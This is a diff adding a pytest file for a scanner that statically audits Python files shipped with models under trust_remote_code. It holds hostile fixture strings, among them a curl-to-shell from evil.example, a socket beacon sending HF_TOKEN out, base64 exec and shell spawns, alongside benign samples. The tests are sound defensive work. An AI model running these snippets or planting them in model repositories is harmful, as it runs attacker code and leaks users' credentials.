@@ -1,0 +1,250 @@
+"""Python files shipped with models (`trust_remote_code`): what runs at import, while the
+model loads, and when it is used, read with `ast` and never imported.
+
+Hostile files are written the way attackers write remote code; benign ones follow the shape
+of real Hugging Face remote-code repositories (modeling/configuration files, helper scripts).
+"""
+
+from __future__ import annotations
+
+import json
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from modelaudit.findings import IssueSeverity
+from modelaudit.rules import text as rt
+from tests.dataformats._dataformats_util import rules_of, scan
+
+CRIT = IssueSeverity.CRITICAL
+WARN = IssueSeverity.WARNING
+
+HEADER = """\
+import os
+import torch
+from torch import nn
+from transformers import PreTrainedModel, PretrainedConfig
+"""
+
+HOSTILE = {
+    "module-level-system": "os.system('curl -s http://evil.example/x | sh')\n",
+    "aliased-subprocess-in-helper-called-at-import": """\
+import subprocess as sp
+
+def _warmup():
+    sp.Popen(['sh', '-c', 'id'])
+
+_warmup()
+""",
+    "base64-exec": """\
+import base64
+exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))
+""",
+    "zlib-marshal-code": """\
+import marshal, zlib
+code = marshal.loads(zlib.decompress(b'x\\x9c...'))
+""",
+    "computed-import": "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n",
+    "socket-beacon": """\
+import socket
+socket.create_connection(('evil.example', 443)).send(os.environ.get('HF_TOKEN', '').encode())
+""",
+    "decorator-runs-code": """\
+def register(cls):
+    os.popen('id').read()
+    return cls
+
+@register
+class Helper:
+    pass
+""",
+    "class-body": """\
+class Config(PretrainedConfig):
+    model_type = 'x'
+    _ = os.system('id')
+""",
+    "model-init": """\
+class EvilModel(PreTrainedModel):
+    def __init__(self, config):
+        super().__init__(config)
+        self._prepare()
+
+    def _prepare(self):
+        os.execv('/bin/sh', ['sh', '-c', 'id'])
+""",
+    "ctypes-at-import": "import ctypes\nctypes.CDLL('./libpayload.so')\n",
+    "pickle-at-import": "import pickle\nstate = pickle.loads(open('blob', 'rb').read())\n",
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE))
+def test_code_run_at_import_or_load_is_critical(tmp_path: Path, name: str) -> None:
+    path = tmp_path / "modeling_custom.py"
+    path.write_text(HEADER + HOSTILE[name])
+    result = scan(path)
+    assert result.scanner_name == "python"
+    assert rt.PYTHON_IMPORT_EXEC in rules_of(result, CRIT), [i.message for i in result.issues]
+
+
+def test_code_in_a_models_forward_is_a_warning(tmp_path: Path) -> None:
+    path = tmp_path / "modeling_custom.py"
+    path.write_text(
+        HEADER
+        + textwrap.dedent(
+            """\
+            class M(PreTrainedModel):
+                def forward(self, x):
+                    os.system('nvidia-smi')
+                    return x
+            """
+        )
+    )
+    result = scan(path)
+    assert rules_of(result, CRIT) == set()
+    assert rt.PYTHON_BEHAVIOUR in rules_of(result, WARN)
+
+
+def test_shebang_script_is_read_as_python(tmp_path: Path) -> None:
+    path = tmp_path / "setup_env.py"
+    path.write_text("#!/usr/bin/env python3\nimport os\nos.system('pip install evil')\n")
+    result = scan(path)
+    assert result.scanner_name == "python"
+    assert rt.PYTHON_IMPORT_EXEC in rules_of(result, CRIT)
+
+
+def test_auto_map_names_a_class_whose_init_runs_commands(tmp_path: Path) -> None:
+    (tmp_path / "modeling_x.py").write_text(
+        textwrap.dedent(
+            """\
+            import subprocess
+
+            class Plain:  # no transformers base: only auto_map says it is loaded
+                def __init__(self, config):
+                    subprocess.check_output(['id'])
+            """
+        )
+    )
+    config = tmp_path / "config.json"
+    config.write_text(
+        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Plain"}})
+    )
+    result = scan(config)
+    issue = next(i for i in result.issues if i.rule == rt.JSON_REMOTE_CODE)
+    assert issue.severity is CRIT
+    assert any(
+        "subprocess.check_output" in b for b in issue.details["remote_code"]["modeling_x.Plain"]
+    )
+
+
+BENIGN_MODELING = '''\
+"""PyTorch Tiny model, in the shape of real remote-code repositories."""
+import importlib.util
+import math
+from dataclasses import dataclass
+from typing import Optional
+
+import torch
+import torch.nn.functional as F
+from torch import nn
+from transformers import PreTrainedModel
+from transformers.modeling_outputs import BaseModelOutput
+from transformers.utils import logging
+
+from .configuration_tiny import TinyConfig
+
+logger = logging.get_logger(__name__)
+_flash_available = importlib.util.find_spec("flash_attn") is not None
+
+
+def rotate_half(x):
+    x1, x2 = x.chunk(2, dim=-1)
+    return torch.cat((-x2, x1), dim=-1)
+
+
+class TinyPreTrainedModel(PreTrainedModel):
+    config_class = TinyConfig
+    base_model_prefix = "tiny"
+
+    def _init_weights(self, module):
+        if isinstance(module, nn.Linear):
+            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)
+
+
+class TinyModel(TinyPreTrainedModel):
+    def __init__(self, config):
+        super().__init__(config)
+        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
+        self.post_init()
+
+    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None):
+        h = F.gelu(self.proj(x)) / math.sqrt(x.shape[-1])
+        return BaseModelOutput(last_hidden_state=rotate_half(h))
+'''
+
+BENIGN_CONFIG = """\
+from transformers import PretrainedConfig
+
+
+class TinyConfig(PretrainedConfig):
+    model_type = "tiny"
+
+    def __init__(self, hidden_size=64, initializer_range=0.02, **kwargs):
+        self.hidden_size = hidden_size
+        self.initializer_range = initializer_range
+        super().__init__(**kwargs)
+"""
+
+BENIGN_SCRIPT = """\
+import argparse
+import subprocess
+
+import torch
+
+
+def git_revision() -> str:
+    return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--out", default="model.pt")
+    args = parser.parse_args()
+    with open(args.out + ".rev", "w") as f:
+        f.write(git_revision())
+
+
+if __name__ == "__main__":
+    main()
+"""
+
+
+def test_real_shaped_remote_code_repository_is_quiet(tmp_path: Path) -> None:
+    (tmp_path / "modeling_tiny.py").write_text(BENIGN_MODELING)
+    (tmp_path / "configuration_tiny.py").write_text(BENIGN_CONFIG)
+    (tmp_path / "train.py").write_text(BENIGN_SCRIPT)
+    config = tmp_path / "config.json"
+    config.write_text(
+        json.dumps(
+            {
+                "model_type": "tiny",
+                "auto_map": {
+                    "AutoConfig": "configuration_tiny.TinyConfig",
+                    "AutoModel": "modeling_tiny.TinyModel",
+                },
+            }
+        )
+    )
+    for name in ("modeling_tiny.py", "configuration_tiny.py", "train.py"):
+        result = scan(tmp_path / name)
+        assert rules_of(result, CRIT) == set() and rules_of(result, WARN) == set(), name
+    result = scan(config)
+    remote = [i for i in result.issues if i.rule == rt.JSON_REMOTE_CODE]
+    assert [i.severity for i in remote] == [WARN]  # trust_remote_code itself, nothing more
+
+
+def test_unparseable_python_is_info(tmp_path: Path) -> None:
+    path = tmp_path / "old.py"
+    path.write_text("print 'python 2'\n")
+    result = scan(path)
+    assert rules_of(result) == {rt.PYTHON_UNPARSEABLE}
